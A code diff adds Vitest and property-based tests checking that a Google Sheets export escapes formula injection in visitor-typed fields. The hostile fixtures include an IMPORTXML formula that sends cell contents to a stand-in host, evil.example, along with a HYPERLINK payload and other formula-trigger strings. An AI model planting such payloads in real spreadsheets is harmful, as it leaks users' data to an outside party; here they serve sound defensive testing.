@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { defaultTemplate } from '../offer/built-in-templates';
 import { defaultRepairCatalog } from '../repairs/repair-catalog';
@@ -53,6 +54,49 @@ describe('buildSheetsPayload (§3 sheets payload)', () => {
       exportDate: '3/4/2025',
       exportTime: '3:06:07 PM',
     });
+  });
+});
+
+describe('buildSheetsPayload keeps hostile text as text (formula injection into the user’s spreadsheet)', () => {
+  it('escapes an address, contact and repair a visitor typed as formulas, as the CSV exports do', () => {
+    const hostileDeal = {
+      ...deal,
+      address: '=IMPORTXML("https://evil.example/?leak="&A1, "//a")',
+      repairs: [{ name: '+HYPERLINK("https://evil.example","click")', cost: 100 }],
+    };
+    const hostileContact = {
+      name: '@SUM(1) -2+3',
+      email: '=1@example.com',
+      phone: '-512-555-0100',
+      city: '\t=cmd',
+      state: '+T',
+      zipCode: '=1',
+    };
+    expect(buildSheetsPayload({ contact: hostileContact, deal: hostileDeal, now })).toMatchObject({
+      firstName: "'@SUM(1)",
+      lastName: "'-2+3",
+      email: "'=1@example.com",
+      phone: "'-512-555-0100",
+      address: `'=IMPORTXML("https://evil.example/?leak="&A1, "//a")`,
+      city: "'\t=cmd",
+      state: "'+T",
+      zipCode: "'=1",
+      repairDetails: `'+HYPERLINK("https://evil.example","click"): $100`,
+    });
+  });
+
+  it('never starts a text field with a formula trigger, whatever is typed', () => {
+    const triggers = /^[=+\-@\t\r]/;
+    fc.assert(
+      fc.property(fc.string(), fc.string(), fc.string(), (typed, repairName, city) => {
+        const payload = buildSheetsPayload({
+          contact: { ...contact, name: typed, email: typed, phone: typed, city, state: typed, zipCode: typed },
+          deal: { ...deal, address: typed, repairs: [{ name: repairName, cost: 1 }] },
+          now,
+        });
+        return Object.values(payload).every((value) => typeof value !== 'string' || !triggers.test(value));
+      }),
+    );
   });
 });
 
